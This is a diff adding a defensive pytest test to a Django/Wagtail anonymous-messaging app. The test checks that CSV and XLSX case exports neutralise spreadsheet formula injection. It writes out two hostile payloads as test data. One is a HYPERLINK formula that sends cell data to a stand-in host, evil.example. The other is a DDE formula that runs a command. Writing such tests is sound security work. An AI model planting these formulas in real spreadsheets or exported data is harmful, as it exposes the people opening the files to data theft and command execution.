@@ -10,6 +10,8 @@ Through HTTP with Django's test client, or through the Wagtail admin's own pages
 6. DEBUG's 400 page echoing the client's address and browser.
 """
 
+import csv
+import io
 import pickle
 
 import pytest
@@ -17,13 +19,17 @@ from django.contrib.auth import get_user_model
 from django.core.cache import caches
 from django.core.checks import run_checks
 from django.test import Client
+from django.urls import reverse
+from openpyxl import load_workbook
 from wagtail.models import Site
 
 from anon_messaging import admin_login
+from anon_messaging.models import Case
 from tests.security_support import (
     THROTTLE_CACHE,
     TOO_MANY,
     Clock,
+    send_anonymous_report,
     use_throttle_cache,
 )
 
@@ -200,3 +206,60 @@ def test_demo_settings_use_django_full_password_validators(settings):
     for weak in ["jo.adviser1", "short", "password123", "8472619305"]:
         with pytest.raises(ValidationError):
             validate_password(weak, user)
+
+
+# --- 2. A formula in the case list's export -------------------------------------------------
+
+CASE_LIST = "/admin/anon_messaging/case/"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
+
+
+def test_a_formula_in_an_advisers_name_is_exported_as_text(site):
+    adviser_user = get_user_model().objects.get(username="adviser")
+    # The adviser types the formula as their first name on the admin's own account page.
+    adviser = Client()
+    adviser.force_login(adviser_user)
+    form = adviser.get(reverse("wagtailadmin_account")).context
+    data = {
+        "name_email-first_name": FORMULA,
+        "name_email-last_name": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "name_email-email": "adviser@example.org",
+    }
+    for panel in form["panels_by_tab"].values():
+        for item in panel:
+            for field in item.get_form():
+                value = field.value()
+                # What the page already shows, as a browser sends it back (no file chosen).
+                if field.html_name in data or value in (None, "") or hasattr(value, "url"):
+                    continue
+                data[field.html_name] = value
+    response = adviser.post(reverse("wagtailadmin_account"), data)
+    assert response.status_code == 302
+    adviser_user.refresh_from_db()
+    assert adviser_user.first_name == FORMULA
+    case = Case.objects.get(pk=case_of_a_new_report().pk)
+    Case.objects.filter(pk=case.pk).update(assigned_to=adviser_user)
+
+    response = admin_client().get(CASE_LIST, {"export": "csv"})
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    cells = [cell for row in rows for cell in row]
+    assigned = next(row for row in rows if row[0] == case.reference)[3]
+    assert assigned.startswith("'=HYPERLINK(")
+    assert FORMULA in assigned
+    for cell in cells:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+
+    # XLSX: Wagtail writes such a value as a text cell, never as a formula.
+    response = admin_client().get(CASE_LIST, {"export": "xlsx"})
+    assert response.status_code == 200
+    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
+    sheet = workbook.active
+    values = [cell for row in sheet.iter_rows() for cell in row]
+    assert any(FORMULA in str(cell.value) for cell in values)
+    assert all(cell.data_type != "f" for cell in values)
+
+
+def case_of_a_new_report():
+    send_anonymous_report(Client(), "A report for the export.")
+    return Case.objects.latest("pk")
